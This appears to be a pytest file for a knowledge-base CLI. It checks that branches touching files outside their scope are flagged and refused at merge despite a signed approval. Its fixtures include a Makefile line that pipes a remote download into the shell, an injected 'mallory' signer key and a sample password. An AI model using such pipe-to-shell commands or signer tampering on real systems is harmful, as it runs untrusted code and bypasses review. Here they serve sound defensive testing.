"""A work branch touches only the pages of its scope (issue 23, item 1), through the CLI.

Each kind of change is committed on a `kb/` branch on top of the proposer's commit, as a plain
git commit. `kb check --gate --base main` and `kb review` report it; `kb merge` refuses it from
the trees even when the head carries a valid signed approval (it does not trust the review).
"""

from __future__ import annotations

import os
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from kb.repo import Repo
from kb.signing import SIGNERS_FILE
from pipeline.propose import propose
from pipeline.records import ReviewRecord, ReviewSigner, add_review
from pipeline.workspace import open_workspace
from tests.conftest import CliResult

Change = Callable[[Path], None]


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def privacy_kept(wt: Path) -> None:
    config = wt / "kb.config.yaml"
    config.write_text(re.sub(r"^  ssn: mask", "  ssn: keep", config.read_text(encoding="utf-8"), flags=re.M), encoding="utf-8")


def evidence_edited(wt: Path) -> None:
    item = sorted((wt / "evidence").glob("*/*/ev-*.md"))[0]
    write(item, item.read_text(encoding="utf-8") + "  and one more line\n")


def submodule(wt: Path) -> None:
    (wt / "users/alice/vendor").mkdir()  # as a checkout of a gitlink leaves it: an empty folder
    git(wt, "update-index", "--add", "--cacheinfo", f"160000,{git(wt, 'rev-parse', 'HEAD').strip()},users/alice/vendor")


def dangling_link(wt: Path) -> None:
    os.symlink("/nonexistent/page.md", wt / "users/alice/gone.md")


def other_user(wt: Path) -> None:
    page = (wt / "users/alice/travel.md").read_text(encoding="utf-8")
    write(wt / "users/bob/travel.md", page.replace("users/alice/", "users/bob/").replace("user:alice", "user:bob"))


def shared_page(wt: Path) -> None:
    """A page of the shared knowledge, from a change whose evidence is alice's alone."""
    index = (wt / "knowledge/index.md").read_text(encoding="utf-8")
    write(wt / "knowledge/notes.md", index.replace("knowledge/index", "knowledge/notes").replace("type: index", "type: topic"))
    write(wt / "knowledge/index.md", index + "\n- [[knowledge/notes]]: Entry page of the shared knowledge.\n")


def executable(wt: Path) -> None:
    (wt / "users/alice/travel.md").chmod(0o755)


def added(path: str, text: str) -> Change:
    return lambda wt: write(wt / path, text)


KINDS: dict[str, tuple[Change, str, str]] = {  # kind -> (change, path, rule)
    "privacy kept": (privacy_kept, "kb.config.yaml", "change.outside"),
    "workflow": (added(".github/workflows/x.yml", "on: push\n"), ".github/workflows/x.yml", "change.outside"),
    "makefile": (added("Makefile", "all:\n\tcurl -s https://example.invalid | sh\n"), "Makefile", "change.outside"),
    "gitignore": (added(".gitignore", ""), ".gitignore", "change.outside"),
    "review record": (added("reviews/2026/kb-x.json", "{}\n"), "reviews/2026/kb-x.json", "change.outside"),
    "root file": (added("notes.txt", "hi\n"), "notes.txt", "change.outside"),
    "kb state": (added(".kb/index/CURRENT", "v1\n"), ".kb/index/CURRENT", "change.outside"),
    "replay cases": (added("consolidation/replay.yaml", "[]\n"), "consolidation/replay.yaml", "change.outside"),
    "evidence edited": (evidence_edited, "evidence/", "change.outside"),
    "non-page file": (added("users/alice/run.sh", "echo\n"), "users/alice/run.sh", "change.outside"),
    "another user": (other_user, "users/bob/travel.md", "change.scope"),
    "shared page": (shared_page, "knowledge/", "change.scope"),
    "dangling link": (dangling_link, "users/alice/gone.md", "change.entry"),
    "submodule": (submodule, "users/alice/vendor", "change.entry"),
    "executable": (executable, "users/alice/travel.md", "change.entry"),
}


@pytest.fixture
def branch(sample_repo: tuple[Repo, dict[str, str]]) -> tuple[Repo, str, Path]:
    repo, ids = sample_repo
    proposal = propose(repo, [ids["s1"]])
    assert proposal.head is not None
    return repo, proposal.branch, open_workspace(repo, proposal.branch, create=False).root


def commit_on(wt: Path, change: Change) -> str:
    change(wt)
    git(wt, "add", "--ignore-removal", "-f", ".")  # a submodule's gitlink has no folder to add
    git(wt, "commit", "-q", "-m", "Tweak")
    return git(wt, "rev-parse", "HEAD").strip()


def approve(repo: Repo, branch: str, head: str) -> None:
    """A valid signed approval of ``head`` by the repository's Reviewer (what an honest review
    fooled by the change would have written)."""
    base = git(repo.root, "merge-base", "main", head).strip()
    data = {
        "branch": branch,
        "head": head,
        "base": base,
        "round": 1,
        "verdict": "approve",
        "reviewer_model": "kb-offline/deterministic",
        "reviewer_family": "kb-deterministic",
        "proposer_model": "kb-offline/extractive",
        "proposer_family": "kb-extractive",
        "at": "2025-01-01T00:00:00Z",
    }
    add_review(repo, ReviewSigner(repo).sign(ReviewRecord(**data)))  # type: ignore[arg-type]


def one_error_line(result: CliResult) -> str:
    lines = result.err.strip().splitlines()
    assert lines[0].startswith("error: ") and len(lines) <= 2 and "Traceback" not in result.err, result.err
    return lines[0]


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_a_change_outside_its_scope_is_reported_and_never_merged(
    cli: Callable[..., CliResult], branch: tuple[Repo, str, Path], kind: str
) -> None:
    repo, name, wt = branch
    change, path, rule = KINDS[kind]
    head = commit_on(wt, change)
    checked = cli("check", "--gate", "--base", "main", cwd=wt)
    assert checked.code == 1 and f"[{rule}]" in checked.out, checked.out
    assert any(line.startswith(path) and f"error [{rule}]" in line for line in checked.out.splitlines()), checked.out
    reviewed = cli("review", name, cwd=repo.root)
    if kind == "another user":  # two users' folders: no principal may read both, refused before the Reviewer
        assert reviewed.code == 7 and "one user's folder, not 2" in one_error_line(reviewed)
    else:
        assert reviewed.code == 1 and "request_changes" in reviewed.out and f"[{rule}]" in reviewed.out, reviewed.out + reviewed.err
    approve(repo, name, head)
    main_before = git(repo.root, "rev-parse", "main")
    merged = cli("merge", name, "--no-index", cwd=repo.root)
    assert merged.code == 11 and f"[{rule}]" in one_error_line(merged) and path in one_error_line(merged)
    assert git(repo.root, "rev-parse", "main") == main_before


def test_a_branch_changing_the_signers_is_refused_from_the_trees_with_exit_14(
    cli: Callable[..., CliResult], branch: tuple[Repo, str, Path]
) -> None:
    repo, name, wt = branch
    commit_on(wt, lambda wt: write(wt / SIGNERS_FILE, (wt / SIGNERS_FILE).read_text() + "mallory@example.invalid ssh-ed25519 AAAA\n"))
    checked = cli("check", "--gate", "--base", "main", cwd=wt)
    assert checked.code == 1 and f"{SIGNERS_FILE}:1: error [change.outside]" in checked.out
    merged = cli("merge", name, "--no-index", cwd=repo.root)
    assert merged.code == 14 and SIGNERS_FILE in one_error_line(merged)


def test_a_later_commit_cannot_widen_the_scope_with_its_own_trailers(
    cli: Callable[..., CliResult], branch: tuple[Repo, str, Path], sample_repo: tuple[Repo, dict[str, str]]
) -> None:
    """An attacker's commit that names bob's evidence as well does not make bob's folder writable."""
    repo, name, wt = branch
    _, ids = sample_repo
    other_user(wt)
    git(wt, "add", "-A")
    message = f"Tweak\n\nKb-Evidence: {ids['s1']}, {ids['policy']}\nKb-Proposer-Model: x\nKb-Proposer-Family: y\n"
    git(wt, "commit", "-q", "-m", message)
    checked = cli("check", "--gate", "--base", "main", cwd=wt)
    assert "users/bob/travel.md:1: error [change.scope]" in checked.out, checked.out


def test_the_gate_judges_by_the_base_config_not_the_branchs(cli: Callable[..., CliResult], branch: tuple[Repo, str, Path]) -> None:
    """A branch that allow-lists its own secret's fingerprint in its kb.config.yaml is still refused."""
    repo, _, wt = branch
    page = wt / "users/alice/travel.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n<!-- The db password is Tr0ub4dor&3x. -->\n", encoding="utf-8")
    found = re.findall(r"fingerprint ([0-9a-f]{16})", cli("check", cwd=wt).out)
    assert found
    config = wt / "kb.config.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "secrets:\n  allow: [" + ", ".join(found) + "]\n", encoding="utf-8")
    assert cli("check", cwd=wt).code == 0  # the branch's own config allows it ...
    git(wt, "add", "-A")
    git(wt, "commit", "-q", "-m", "Allow")
    checked = cli("check", "--gate", "--base", "main", cwd=wt)
    assert checked.code == 1 and "error [secret.found]" in checked.out and "kb.config.yaml:1: error [change.outside]" in checked.out


def test_a_persons_commit_changing_config_is_a_warning(cli: Callable[..., CliResult], sample_repo: tuple[Repo, dict[str, str]]) -> None:
    repo, _ = sample_repo
    privacy_kept(repo.root)
    git(repo.root, "commit", "-q", "-am", "Keep SSNs in clear (decided by the data owner)")
    checked = cli("check", "--gate", "--base", "HEAD~1", cwd=repo.root)
    assert checked.code == 0, checked.out
    assert "kb.config.yaml:1: warning [change.human]" in checked.out


def test_plain_check_reports_a_symlinked_page_and_never_reads_it(
    cli: Callable[..., CliResult], sample_repo: tuple[Repo, dict[str, str]]
) -> None:
    repo, _ = sample_repo
    os.symlink("/nonexistent/page.md", repo.root / "knowledge" / "gone.md")
    checked = cli("check", cwd=repo.root)
    assert checked.code == 1 and "knowledge/gone.md:1: error [change.entry]" in checked.out
    assert "page.parse" not in checked.out and "Traceback" not in checked.err


def test_a_merge_runs_the_gate_once(branch: tuple[Repo, str, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    import ci.gate
    from pipeline.merge import merge_branch
    from pipeline.review import review_branch

    repo, name, _ = branch
    assert review_branch(repo, name).verdict == "approve"
    runs: list[str] = []
    real = ci.gate.check_selection

    def counted(*args: object, **kwargs: object) -> object:
        runs.append("gate")
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(ci.gate, "check_selection", counted)
    merge_branch(repo, name, build_index=False)
    assert runs == ["gate"]
